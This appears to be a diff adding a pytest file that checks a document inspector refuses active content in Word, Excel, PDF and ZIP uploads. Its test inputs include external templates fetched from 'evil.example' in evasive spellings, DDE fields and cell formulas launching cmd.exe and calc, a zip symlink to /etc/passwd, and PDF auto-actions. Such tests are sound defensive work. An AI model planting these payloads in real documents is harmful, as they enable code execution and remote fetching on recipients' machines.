@@ -1,0 +1,232 @@
+"""What would act, fetch or be started on an officer's machine is refused, however it is written; what only says so is not."""
+
+import io
+import stat
+import zipfile
+from collections.abc import Callable
+from typing import Any
+
+import pikepdf
+import pytest
+from pikepdf import Array, Dictionary, Name, String
+
+from dvctt.documents.inspect import files
+from dvctt.documents.inspect.findings import Bad, Limits
+from tests.documents.files import ALL, archive, docx
+from tests.documents.files import pdf as made_pdf
+
+RELATIONS = "word/_rels/settings.xml.rels"
+TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+LINK = TEMPLATE.replace("attachedTemplate", "hyperlink")
+OUTSIDE = f'<Relationship Id="r" Type="{TEMPLATE}" Target="https://evil.example/a.dotm" TargetMode="External"/>'
+XLSX_TYPES = (
+    '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+    'spreadsheetml.sheet.main+xml"/>{}</Types>'
+)
+
+
+def verdict(data: bytes, name: str) -> str:
+    """The type of a file that is taken, or the code of its refusal."""
+    try:
+        return files.judge(data, name, ALL, Limits()).type
+    except Bad as bad:
+        return bad.code
+
+
+def related(relation: str, part: str = RELATIONS, encoding: str = "utf-8", head: str = "") -> bytes:
+    return docx({part: f"{head}<Relationships>{relation}</Relationships>".encode(encoding)})
+
+
+def xlsx(more: dict[str, bytes] | None = None, types: str = "") -> bytes:
+    parts = {"[Content_Types].xml": XLSX_TYPES.format(types).encode(), "xl/workbook.xml": b"<workbook/>"}
+    return archive({**parts, **(more or {})})
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        related(OUTSIDE),
+        related(OUTSIDE.replace('"External"', "'External'")),
+        related(OUTSIDE.replace("TargetMode=", "TargetMode\n=\n")),
+        related(OUTSIDE.replace('"External"', '" external "')),
+        related(OUTSIDE.replace("External", "Ext&#101;rnal")),
+        related(OUTSIDE, encoding="utf-16", head='<?xml version="1.0" encoding="UTF-16"?>'),
+        related(OUTSIDE.replace("<Relationship ", "<p:Relationship ")),
+        related(OUTSIDE, "word/_rels/settings.xml.RELS"),
+        related(OUTSIDE.replace("a.dotm", "/hyperlink")),
+        related(OUTSIDE.replace(' TargetMode="External"', "")),
+        related(OUTSIDE.replace("Target=", 'x="&gt;" Target=')),
+        related(OUTSIDE.replace(TEMPLATE, LINK.replace("hyperlink", "oleObject"))),
+        related(OUTSIDE.replace(TEMPLATE, LINK.replace("hyperlink", "frame"))),
+        related(f'<Relationship Type="{LINK[:-9]}control" Target="activeX/activeX1.xml"/>'),
+    ],
+    ids=["plain", "single quotes", "new lines", "case and blanks", "character reference", "UTF-16", "prefix", "name in capitals",
+         "hyperlink in the target", "not said to be outside", "a sign before", "object", "frame", "control"],
+)  # fmt: skip
+def test_what_word_would_fetch_or_start_is_refused_however_it_is_written(data: bytes) -> None:
+    assert verdict(data, "a.docx") == "active_content"
+
+
+@pytest.mark.parametrize(
+    "relation",
+    [
+        OUTSIDE.replace(TEMPLATE, LINK),
+        f'<Relationship Type="{LINK}" Target="mailto:a@b.example" TargetMode="External"/>',
+        f'<Relationship Type="{LINK[:-9]}image" Target="media/image1.png"/>',
+        f'<Relationship Type="{LINK[:-9]}image" Target="C:\\Ảnh\\a.png" TargetMode="External"/>',
+    ],
+)
+def test_links_and_pictures_do_no_harm(relation: str) -> None:
+    assert verdict(related(relation), "a.docx") == "docx"
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "latin-1"])
+@pytest.mark.parametrize("part", ["word/settings.xml", "word/settings.XML", "word/drawing.vml", "docProps/app.xml"])
+def test_a_document_type_is_refused_in_any_encoding(part: str, encoding: str) -> None:
+    text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'
+    assert verdict(docx({part: text.encode(encoding)}), "a.docx") == "active_content"
+
+
+def test_a_part_that_is_no_xml_is_a_broken_file() -> None:
+    assert verdict(docx({"word/settings.xml": b"<a><b></a>"}), "a.docx") == "broken_archive"
+    assert verdict(docx({"word/settings.xml": b'<?xml version="1.0" encoding="no-such"?><a/>'}), "a.docx") == "broken_archive"
+
+
+def field(*runs: str) -> bytes:
+    said = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in runs)
+    ends = '<w:fldChar w:fldCharType="{}"/>'
+    return docx({
+        "word/header1.xml": f"<w:p>{ends.format('begin')}{said}{ends.format('separate')}<w:t>DDE</w:t></w:p>".encode()
+    })
+
+
+@pytest.mark.parametrize(
+    ("data", "fine"),
+    [
+        (field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '), False),
+        (field("DD", "E", "AUTO ", "cmd"), False),
+        (field(" dde excel a"), False),
+        (docx({"word/a.xml": b'<w:fldSimple w:instr=" DDE cmd a"/>'}), False),
+        (field(" PAGE "), True),
+        (field(" HYPERLINK ", '"https://a.example/DDE cmd"'), True),
+        (docx({"word/a.xml": "<w:t>DDE là gì?</w:t>".encode()}), True),
+    ],
+)
+def test_a_field_that_starts_a_program_is_refused(data: bytes, *, fine: bool) -> None:
+    assert verdict(data, "a.docx") == ("docx" if fine else "active_content")
+
+
+def cell(formula: str) -> dict[str, bytes]:
+    return {"xl/worksheets/sheet1.xml": f"<worksheet><c><f>{formula}</f></c></worksheet>".encode()}
+
+
+@pytest.mark.parametrize(
+    ("data", "fine"),
+    [
+        (xlsx({"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}), False),
+        (xlsx(cell("cmd|' /C calc'!A0")), False),
+        (xlsx(cell("1+'cmd'|'/c calc'!A1")), False),
+        (xlsx(cell("_xlfn.WEBSERVICE(&quot;https://a.example&quot;)")), False),
+        (xlsx({"xl/workbook.xml": b"<workbook><definedName name='a'>cmd|'/c x'!A1</definedName></workbook>"}), False),
+        (xlsx(cell("SUM(A1:A9)+'Bảng A|B'!A1")), True),
+        (xlsx(cell("&quot;a|'b'!c&quot;&amp;B1")), True),
+        (xlsx(cell("MYCALL(1)")), True),
+    ],
+)
+def test_a_cell_that_starts_a_program_or_fetches_is_refused(data: bytes, *, fine: bool) -> None:
+    assert verdict(data, "a.xlsx") == ("xlsx" if fine else "active_content")
+
+
+@pytest.mark.parametrize("mark", ["application/vnd.ms-excel.macrosheet+xml", "application/vnd.ms-office.activeX+xml"])
+def test_macro_sheets_and_controls_are_macros(mark: str) -> None:
+    assert verdict(xlsx(types=f'<Override PartName="/xl/a.xml" ContentType="{mark}"/>'), "a.xlsx") == "wrong_type"
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["a.cpl", "a.msc", "a.chm", "a.iso", "a.xll", "a.url", "evil.exe.", "evil.exe ..", "evil.exe::$DATA", "a.lnk",
+     "thư mục/a.settingcontent-ms", "a.html", "trang.mht", "A.PS1"],
+)  # fmt: skip
+def test_what_a_double_click_would_start_is_refused_in_an_archive(name: str) -> None:
+    assert verdict(archive({name: b"x"}), "a.zip") == "active_content"
+
+
+@pytest.mark.parametrize("name", ["Bản vẽ.dwg", "a.txt", "số 12.2024", "exe", "bản đồ.img", "giấy phép.exe.pdf"])
+def test_what_it_would_only_open_is_taken(name: str) -> None:
+    assert verdict(archive({name: b"x"}), "a.zip") == "zip"
+
+
+def test_a_symbolic_link_leads_out_of_the_archive() -> None:
+    room = io.BytesIO()
+    with zipfile.ZipFile(room, "w") as made:
+        link = zipfile.ZipInfo("a.txt")
+        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
+        made.writestr(link, "/etc/passwd")
+        made.writestr("b.txt", "b")
+    assert verdict(room.getvalue(), "a.zip") == "unsafe_archive"
+
+
+def with_root(**keys: Any) -> bytes:
+    def change(made: pikepdf.Pdf) -> None:
+        for key, value in keys.items():
+            made.Root[f"/{key}"] = made.make_indirect(value)
+
+    return made_pdf(change=change)
+
+
+def with_link(**action: Any) -> bytes:
+    def change(made: pikepdf.Pdf) -> None:
+        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(**action))
+        made.pages[0].Annots = Array([made.make_indirect(note)])
+
+    return made_pdf(change=change)
+
+
+WEB = {"S": Name.URI, "URI": String("https://a.example")}
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        with_root(OpenAction=Dictionary(**WEB)),
+        with_root(OpenAction=Dictionary(S=Name.GoToR, F=String("b.pdf"))),
+        with_root(OpenAction=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Dictionary(**WEB))),
+        with_root(AA=Dictionary(WC=Dictionary(**WEB))),
+        with_link(S=Name.SubmitForm, F=String("https://a.example")),
+        with_link(S=Name.GoToR, F=String("\\\\server\\share\\a.pdf")),
+        with_link(S=Name.GoToR, F=Dictionary(Type=Name.Filespec, UF=String("//server/a.pdf"))),
+        with_link(S=Name.GoToR, F=Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("a.example/b.pdf"))),
+        with_link(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a"))),
+    ],
+    ids=["opens an address", "opens a file", "goes on to an address", "on closing", "sends the form", "share", "share in a specification",
+         "address of a file", "opens an attachment"],
+)  # fmt: skip
+def test_a_pdf_that_leads_elsewhere_by_itself_is_refused(data: bytes) -> None:
+    assert verdict(data, "a.pdf") == "active_content"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        with_link(**WEB),
+        with_link(S=Name.GoToR, F=String("phụ lục.pdf")),
+        with_root(OpenAction=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))),
+        with_root(OpenAction=Array([0, Name.Fit])),
+        with_root(AA=Dictionary(WC=Dictionary(S=Name.Named, N=Name.FirstPage))),
+    ],
+    ids=["link", "link to a file beside", "goes to a page", "a place", "turns a page"],
+)
+def test_a_pdf_that_only_links_is_taken(data: bytes) -> None:
+    assert verdict(data, "a.pdf") == "pdf"
+
+
+def attached(name: str) -> Callable[[pikepdf.Pdf], None]:
+    def change(made: pikepdf.Pdf) -> None:
+        made.attachments[name] = b"<script>1</script>"
+
+    return change
+
+
+def test_a_web_page_attached_to_a_pdf_is_refused() -> None:
+    assert verdict(made_pdf(change=attached("a.html")), "a.pdf") == "active_content"
+    assert verdict(made_pdf(change=attached("a.txt")), "a.pdf") == "pdf"
